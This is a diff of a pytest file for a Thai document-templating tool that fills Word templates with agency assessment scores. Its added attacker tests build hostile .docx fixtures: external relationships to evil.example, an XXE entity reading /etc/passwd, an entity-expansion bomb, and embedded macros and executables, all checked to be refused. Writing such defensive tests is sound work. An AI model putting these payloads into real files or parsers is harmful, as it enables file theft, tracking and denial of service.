@@ -3,18 +3,31 @@ same figures."""
 
 import dataclasses
 import io
+import re
 import zipfile
 
 import docx
 import pytest
 
-from prongsai.documents import KINDS, TemplateFileError, check_template, fill_template, issue
-from prongsai.documents.issuance import WITHOUT_RESULT
+from prongsai.documents import (
+    KINDS,
+    WITHOUT_RESULT,
+    ContradictionError,
+    TemplateFileError,
+    check_template,
+    compose_document,
+    fill_template,
+    issue_document,
+    write_document,
+)
+from prongsai.documents.agency_templates import package
+from prongsai.documents.agency_templates.starter import build_starter
+from prongsai.documents.agency_templates.tags import TAGS, build_tag_values
+from prongsai.documents.content.data import SurveyProgress
 from prongsai.documents.content.facts import ResultFacts
-from prongsai.documents.agency_templates.starter import starter
-from prongsai.documents.agency_templates.tags import TAGS, values
 from prongsai.intake import figures_of, read_rows
-from tests.documents.materials import FRAMEWORKS, material
+from tests.documents.readers import word_text
+from tests.documents.samples import FRAMEWORKS, sample_data
 
 
 def word(*paragraphs: str, table: list[list[str]] | None = None, header: str = "") -> bytes:
@@ -51,16 +64,28 @@ GOOD = word(
 
 
 @pytest.mark.parametrize("kind", KINDS)
-def test_the_file_to_start_from_is_right_and_says_what_ours_says(kind):
-    data = starter(kind)
-    assert check_template(data, kind) == []
-    for name in ("bangpla", "lumphuek"):  # with a year before and every item, and with neither
-        told = dataclasses.replace(material(name), disclosures=(), surveys=())
-        made = issue(kind, told, own=data)
-        ours = issue(kind, told)
-        if kind not in WITHOUT_RESULT:
-            assert made.read_back.read > 10
-        assert made.pdf == ours.pdf
+def test_the_starter_has_no_problem_and_is_issued(kind):
+    starter = build_starter(kind)
+    assert check_template(starter, kind) == []
+    with_everything = dataclasses.replace(sample_data("bangpla"), disclosures=(), surveys=())
+    report = issue_document(kind, with_everything, template=starter).read_back
+    assert report.figures_read > 10 or kind in WITHOUT_RESULT
+    without_previous = sample_data("lumphuek")
+    assert without_previous.office.name in word_text(fill_template(starter, kind, without_previous))
+
+
+def test_a_template_replaces_the_word_file_alone():
+    data = sample_data("lumphuek")
+    ours = write_document(compose_document("summary", data))
+    issued = issue_document("summary", data, template=build_starter("summary"))
+    assert issued.docx != ours.docx
+    assert (issued.pdf, issued.html) == (ours.pdf, ours.html)
+
+
+def test_a_score_typed_into_a_template_is_read_back_even_the_quick_way():
+    template = word("{{ agency }} ผลการประเมิน ITA ปีงบประมาณ พ.ศ. 2564 ได้คะแนนรวม 12.34 คะแนน")
+    with pytest.raises(ContradictionError, match=r"12\.34"):
+        issue_document("summary", sample_data("lumphuek"), template=template, read_whole_pdf=False)
 
 
 def test_every_fault_of_a_sort_is_told_at_once_with_its_place():
@@ -73,7 +98,7 @@ def test_every_fault_of_a_sort_is_told_at_once_with_its_place():
 def test_a_template_is_filled_and_reads_back_the_same_figures(tmp_path):
     assert check_template(GOOD, "outcome") == []
     path = tmp_path / "x.docx"
-    path.write_bytes(fill_template(GOOD, "outcome", material("daengmo")))
+    path.write_bytes(fill_template(GOOD, "outcome", sample_data("daengmo")))
     (reading,) = figures_of(read_rows(path), FRAMEWORKS)
     assert reading.agency == "องค์การบริหารส่วนตำบลแดงหม้อ"
     assert {(f.node, f.value) for f in reading.figures} >= {("overall", "80.90"), ("1", "99.83"), ("10", "43.75")}
@@ -84,7 +109,7 @@ def test_a_template_is_filled_and_reads_back_the_same_figures(tmp_path):
 
 def test_lines_of_a_text_stay_lines():
     data = word(table=[["{%tr for p in plan %}"], ["{{ p.steps }}"], ["{%tr endfor %}"]])
-    file = docx.Document(io.BytesIO(fill_template(data, "measures", material("daengmo"))))
+    file = docx.Document(io.BytesIO(fill_template(data, "measures", sample_data("daengmo"))))
     assert file.tables[0].rows[0].cells[0].text.split("\n")[1].startswith("๒) ")
 
 
@@ -105,15 +130,13 @@ def test_lines_of_a_text_stay_lines():
         (word("{%p for a in agency %}", "{{ a }}", "{%p endfor %}"), "agency ไม่ใช่รายการ จึงใช้กับ for ไม่ได้"),
         (word("ไม่มีแท็ก"), "ไม่พบแท็กในไฟล์"),
         (word("{{ agency }}", header="{{ wrong }}"), "หัวกระดาษ ส่วน 1: แท็ก {{ wrong }} ไม่รู้จัก wrong"),
-        (b"not a zip", "ไม่ใช่ไฟล์ Word (.docx) หรือไฟล์เสีย"),
-        (GOOD[: len(GOOD) // 2], "ไม่ใช่ไฟล์ Word (.docx) หรือไฟล์เสีย"),
     ],
 )
 def test_a_wrong_tag_is_named_with_its_place(template, problem):
     found = check_template(template, "outcome")
     assert any(problem in p for p in found), found
     with pytest.raises(TemplateFileError):
-        fill_template(template, "outcome", material("daengmo"))
+        fill_template(template, "outcome", sample_data("daengmo"))
 
 
 def test_all_unknown_names_are_told_at_once():
@@ -143,62 +166,126 @@ def test_nothing_but_names_loops_and_conditions(hostile):
     data = word(hostile)
     assert check_template(data, "outcome"), hostile
     with pytest.raises(TemplateFileError):
-        fill_template(data, "outcome", material("daengmo"))
+        fill_template(data, "outcome", sample_data("daengmo"))
 
 
-def rezipped(change) -> bytes:
+# --- attackers
+
+
+def rezip(change=lambda name, content: content, extra=()) -> bytes:
+    """The good template with changed parts, and (name, content) of extra ones."""
     out = io.BytesIO()
     with zipfile.ZipFile(io.BytesIO(GOOD)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
         for entry in old.infolist():
-            new.writestr(entry.filename, change(entry.filename, old.read(entry)))
-        if extra := change(None, b""):
-            new.writestr(*extra)
+            content = change(entry.filename, old.read(entry))
+            if content is not None:
+                new.writestr(entry.filename, content)
+        for name, content in extra:
+            new.writestr(name, content)
     return out.getvalue()
+
+
+def with_relationship(attributes: str, encoding: str = "utf-8") -> bytes:
+    def change(name, content):
+        if name != "word/_rels/document.xml.rels":
+            return content
+        text = content.decode().replace("</Relationships>", f"<Relationship {attributes}/></Relationships>")
+        return re.sub(r"<\?xml.*?\?>", "", text).encode(encoding)
+
+    return rezip(change)
+
+
+TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+EXTERNAL = 'Id="r99" Target="https://evil.example/x" TargetMode="External"'
+
+
+@pytest.mark.parametrize(
+    ("attributes", "kind"),
+    [
+        (f'{EXTERNAL} Type="{TYPE}/attachedTemplate"', "attachedTemplate"),  # remote template: macros of another file
+        (f'{EXTERNAL} Type="{TYPE}/oleObject"', "oleObject"),
+        (f'{EXTERNAL} Type="{TYPE}/image"', "image"),  # tells the sender who opens the document
+        (f'{EXTERNAL} Type="{TYPE}/hyperlinks"', "hyperlinks"),
+        (EXTERNAL, r"\?"),
+        (f"{EXTERNAL} Type=''", r"\?"),
+        (EXTERNAL.replace("External", "external") + f' Type="{TYPE}/image"', "image"),
+        (EXTERNAL.replace("External", "Ext&#101;rnal") + f' Type="{TYPE}/image"', "image"),
+    ],
+)
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_a_part_that_word_would_fetch_from_elsewhere_is_refused(attributes, kind, encoding):
+    (problem,) = check_template(with_relationship(attributes, encoding), "outcome")
+    assert re.search(rf"อ้างถึงไฟล์ภายนอก \({kind}\)", problem)
+
+
+def test_an_ordinary_hyperlink_is_accepted():
+    assert check_template(with_relationship(f'{EXTERNAL} Type="{TYPE}/hyperlink"'), "outcome") == []
+
+
+BOMB = '<!DOCTYPE x [<!ENTITY a "' + "x" * 1000 + '"><!ENTITY b "' + "&a;" * 1000 + '">]>'
+
+
+@pytest.mark.parametrize(
+    ("part", "doctype", "entity"),
+    [
+        ("word/document.xml", BOMB, "&b;"),
+        ("word/document.xml", '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>', "&f;"),
+        ("word/document.xml", '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">', ""),
+        ("word/header1.xml", BOMB, "&b;"),
+        ("word/styles.xml", BOMB, ""),
+    ],
+    ids=["bomb", "file", "outside", "header", "styles"],
+)
+def test_entities_are_not_expanded(part, doctype, entity):
+    def change(name, content):
+        if name != part:
+            return content
+        text = re.sub(r"<\?xml.*?\?>", "", content.decode())
+        return (doctype + text.replace("{{ agency }}", "{{ agency }} " + entity)).encode()
+
+    changed = rezip(change)
+    assert changed != rezip()
+    assert check_template(changed, "outcome") == ["ไม่ใช่ไฟล์ Word (.docx) หรือไฟล์เสีย"]
 
 
 @pytest.mark.parametrize(
     ("data", "problem"),
     [
-        (rezipped(lambda n, d: ("word/big.bin.xml", b" " * 6_000_000) if n is None else d), "ขยายแล้วใหญ่ผิดปกติ"),
-        (rezipped(lambda n, d: ("word/vbaProject.bin", b"x") if n is None else d), "มาโคร"),
-        (
-            rezipped(
-                lambda n, d: (
-                    d.replace(
-                        b"</Relationships>",
-                        b'<Relationship Id="r9" Type="http://x/attachedTemplate" Target="http://evil/" TargetMode="External"/></Relationships>',
-                    )
-                    if n == "word/_rels/document.xml.rels"
-                    else (d if n else None)
-                )
-            ),
-            "อ้างถึงไฟล์ภายนอก (attachedTemplate)",
-        ),
-        (b"PK\x03\x04" + b"x" * 11_000_000, "เกิน 10 MB"),
+        (rezip(extra=[("word/large.xml", b" " * (package.MAX_XML_BYTES + 1))]), "ขยายแล้วใหญ่ผิดปกติ"),
+        (rezip(extra=[("word/media/a.png", b" " * (package.MAX_UNZIPPED_BYTES + 1))]), "ขยายแล้วใหญ่ผิดปกติ"),
+        (rezip(extra=[(f"word/{n}.png", b"") for n in range(package.MAX_ENTRIES)]), "ขยายแล้วใหญ่ผิดปกติ"),
+        (rezip(extra=[("word/vbaProject.xml", b"<x/>")]), "มาโคร"),
+        (rezip(extra=[("word/VBAPROJECT.BIN", b"x")]), "มาโคร"),
+        (rezip(extra=[("word/embeddings/oleObject1.bin", b"x")]), "วัตถุฝัง"),
+        (rezip(extra=[("word/a.exe", b"x")]), "วัตถุฝัง"),
+        (rezip(extra=[("word/a.dll", b"x")]), "วัตถุฝัง"),
+        (rezip(lambda name, content: None if name == "word/document.xml" else content), "ไม่ใช่ไฟล์ Word"),
+        (b"PK\x03\x04" + b"x" * package.MAX_BYTES, "เกิน 10 MB"),
+        (b"not a zip", "ไม่ใช่ไฟล์ Word (.docx) หรือไฟล์เสีย"),
+        (GOOD[: len(GOOD) // 2], "ไม่ใช่ไฟล์ Word (.docx) หรือไฟล์เสีย"),
     ],
-    ids=["bomb", "macro", "outside", "large"],
+    ids=["xml", "bomb", "entries", "macro", "MACRO", "object", "exe", "dll", "no document", "large", "no zip", "half"],
 )
-def test_files_that_are_not_opened(data, problem):
+def test_files_that_are_not_opened(data, problem, monkeypatch):
+    monkeypatch.setattr("prongsai.documents.agency_templates.template.docx.Document", None)  # the parser is not reached
     assert problem in check_template(data, "outcome")[0]
 
 
 def shape(tags):
-    return {n: shape(t.inside) if t.inside else str for n, t in tags.items()}
+    return {n: shape(t.fields) if t.fields else str for n, t in tags.items()}
 
 
-def shape_of(told):
+def shape_of(data):
     return {
         n: shape_of(v[0] if isinstance(v, list) and v else v) if isinstance(v, (list, dict)) and v else str
-        for n, v in told.items()
+        for n, v in data.items()
     }
 
 
 @pytest.mark.parametrize("kind", KINDS)
 def test_what_is_filled_in_has_the_shape_that_is_documented(kind):
-    from prongsai.documents.content.data import SurveyProgress
-
-    told = material("phron", surveys=(SurveyProgress("IIT", 3, 30),))
-    assert shape_of(values(kind, ResultFacts(told))) == shape(TAGS[kind])
+    data = sample_data("phron", surveys=(SurveyProgress(instrument="IIT", received=3, required=30),))
+    assert shape_of(build_tag_values(kind, ResultFacts(data))) == shape(TAGS[kind])
 
 
 @pytest.mark.parametrize("kind", KINDS)
@@ -208,5 +295,5 @@ def test_every_tag_is_in_the_handbook(kind):
     text = (Path(__file__).parents[2] / "docs" / "documents.md").read_text(encoding="utf-8")
     for name, tag in TAGS[kind].items():
         assert f"`{name}`" in text, name
-        for inner in tag.inside:
+        for inner in tag.fields:
             assert f"`{inner}`" in text, inner
